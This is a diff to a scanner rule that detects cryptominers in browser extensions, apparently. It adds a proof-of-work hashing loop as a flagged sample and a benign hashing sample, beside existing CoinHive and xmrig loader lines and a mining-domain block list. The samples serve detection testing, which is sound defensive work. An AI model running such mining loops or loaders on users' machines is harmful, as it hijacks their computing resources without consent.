@@ -53,6 +53,9 @@ const JOB_WORDS = [
   'login',
 ];
 
+/** Signs that no spelling of a hash has. */
+const NO_HASH = /[^\w*+/=-]/;
+
 export const cryptoMining = defineRule({
   id: 'crypto-mining',
   title: 'Cryptominer: mines cryptocurrency on this computer',
@@ -109,6 +112,10 @@ export const cryptoMining = defineRule({
   }),
   examples: {
     bad: [
+      // Where the hash has that sign in front, it is one that is looked for.
+      backgroundExample(
+        'const hex = (b) => [...new Uint8Array(b)].map((x) => x.toString(16)).join(""); chrome.runtime.onMessage.addListener(async ({ block, target }) => { for (let n = 0; ; n++) { const h = hex(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(block + n))); if ((":" + h).startsWith(":" + target)) { fetch("https://api.example/" + n); break; } } });',
+      ),
       contentExample('const m = new CoinHive.Anonymous("K3Y"); m.start();'),
       contentExample(
         'const s = document.createElement("script"); s.src = "https://cdn.example/lib/cryptonight.min.js"; document.head.append(s);',
@@ -147,6 +154,9 @@ export const cryptoMining = defineRule({
       backgroundExample('importScripts("vendor/xmrig.wasm.js"); importScripts("vendor/webminer.js");'),
     ],
     good: [
+      backgroundExample(
+        'const hex = (b) => [...new Uint8Array(b)].map((x) => x.toString(16)).join(""); const keyOf = async (folder, parts) => { let all = ""; for (const part of parts) all += part; return folder + ":" + hex(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(all))); }; chrome.runtime.onMessage.addListener(async ({ folder, parts }) => { const key = await keyOf(folder, parts); if (key.startsWith(`${folder}:`)) chrome.storage.local.set({ key }); });',
+      ),
       backgroundExample(
         'const blocked = ["coinhive.com", "coinhive.min.js", "cryptoloot.pro", "https://x.example/coinhive.min.js"]; block(blocked);',
       ),
@@ -187,6 +197,9 @@ function* workProved(script: ScriptFacts): Iterable<number> {
   for (const call of callsNamed(script, 'startsWith')) {
     const begin = constant(script, call.args[0] ?? 0);
     if (begin !== undefined && !/^0{2,}$/.test(begin)) continue;
+    // `key.startsWith(`${folder}:`)`: no hash is looked for.
+    if (NO_HASH.test(pattern(script, call.args[0] ?? 0)) && !NO_HASH.test(pattern(script, receiverOf(script, call))))
+      continue;
     for (const one of backwardSlice(script, receiverOf(script, call))) {
       const isHash = opOf(script, one) === Op.call && apiPath(script, calleeOf(script, one)) === 'crypto.subtle.digest';
       // A file whose checksum is told in part is hashed as it came; who proves work hashes it with one number after another.
